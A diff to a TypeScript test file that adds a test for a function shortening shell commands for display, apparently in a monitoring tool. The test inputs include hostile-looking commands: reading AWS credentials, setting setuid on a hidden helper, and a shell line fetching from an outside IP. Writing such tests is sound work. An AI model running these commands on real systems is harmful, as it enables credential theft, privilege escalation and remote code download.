@@ -1,6 +1,6 @@
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
-import { count, label, middle, path, pieces, plural, visible } from "./text";
+import { command, count, label, middle, path, pieces, plural, visible } from "./text";
 
 const dangerous = "a\u202egnp.exe\u001b[31m\u0007\u200b\u2066\ufeff\u2028z";
 
@@ -66,6 +66,14 @@ describe("shortening", () => {
     expect(path("/etc/cron.d/updater", 19)).toBe("/etc/cron.d/updater");
     expect(path("/usr/lib/x86_64-linux-gnu/php-fpm8.2", 20)).toBe("/usr/…/php-fpm8.2");
     expect(path("/a-very-long-file-name-without-folders", 12)).toHaveLength(12);
+  });
+
+  it("keeps the program of a command and what it works on", () => {
+    expect(command("cat /home/deploy/.aws/credentials", 20)).toBe("cat … credentials");
+    expect(command("chmod 4755 /usr/lib/.helper", 20)).toBe("chmod 4755 … .helper");
+    expect(command('sh -c "id; uname -a; fetch http://198.51.100.23/u"', 20)).toBe('sh -c "id; uname … u');
+    expect(command("ps aux", 20)).toBe("ps aux");
+    expect(command("averyveryverylongprogramname x", 12)).toBe("averyveryve…");
   });
 
   it("never exceeds its limit", () => {
